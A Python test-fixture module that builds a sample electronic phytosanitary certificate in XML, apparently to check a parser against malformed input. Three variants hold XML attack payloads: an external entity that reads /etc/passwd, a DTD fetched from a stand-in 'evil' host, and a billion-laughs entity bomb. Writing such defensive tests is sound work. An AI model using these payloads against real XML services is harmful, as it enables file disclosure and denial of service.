"""An electronic phytosanitary certificate as the hub sends it, and the ways in which it may be spoilt."""

from __future__ import annotations

EPHYTO = """<?xml version="1.0" encoding="UTF-8"?>
<rsm:SPSCertificate xmlns:rsm="urn:un:unece:uncefact:data:standard:SPSCertificate:17"
    xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:21"
    xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:21">
  <rsm:SPSExchangedDocument>
    <ram:Name>Phytosanitary certificate</ram:Name>
    <ram:ID>CN2026450000123</ram:ID>
    <ram:TypeCode>851</ram:TypeCode>
    <ram:StatusCode>70</ram:StatusCode>
    <ram:IssueDateTime><udt:DateTimeString>2026-07-11T09:30:00+08:00</udt:DateTimeString></ram:IssueDateTime>
    <ram:IssuerSPSParty><ram:Name>General Administration of Customs, P.R. China</ram:Name></ram:IssuerSPSParty>
    <ram:IncludedSPSNote><ram:Subject>SPSFL</ram:Subject><ram:Content>5</ram:Content></ram:IncludedSPSNote>
  </rsm:SPSExchangedDocument>
  <rsm:SPSConsignment>
    <ram:UtilizedSPSTransportEquipment>
      <ram:ID>TYTU 260702 0</ram:ID><ram:AffixedSPSSeal><ram:ID>GX482913</ram:ID></ram:AffixedSPSSeal>
    </ram:UtilizedSPSTransportEquipment>
    <ram:IncludedSPSConsignmentItem>
      <ram:IncludedSPSTradeLineItem>
        <ram:SequenceNumeric>1</ram:SequenceNumeric>
        <ram:ScientificName>Mangifera indica</ram:ScientificName>
        <ram:NetWeightMeasure unitCode="KGM">40.0</ram:NetWeightMeasure>
        <ram:AdditionalInformationSPSNote>
          <ram:Subject>ADTLIL</ram:Subject>
          <ram:Content>Regulation (EU) 2019/2072, Annex VII, point 61 (d): effective treatment</ram:Content>
        </ram:AdditionalInformationSPSNote>
        <ram:PhysicalSPSPackage>
          <ram:LevelCode>4</ram:LevelCode><ram:TypeCode>CT</ram:TypeCode><ram:ItemQuantity>8</ram:ItemQuantity>
        </ram:PhysicalSPSPackage>
      </ram:IncludedSPSTradeLineItem>
    </ram:IncludedSPSConsignmentItem>
  </rsm:SPSConsignment>
</rsm:SPSCertificate>
"""
_BODY = EPHYTO.partition("?>")[2]
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))

WITH_ENTITY = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY me SYSTEM "file:///etc/passwd">]>{_BODY}'.replace(
    "CN2026450000123", "&me;"
)
WITH_OUTSIDE = f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "https://example.org/evil.dtd">{_BODY}'
WITH_LAUGHS = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>{_BODY}'.replace("CN2026450000123", "&l8;")
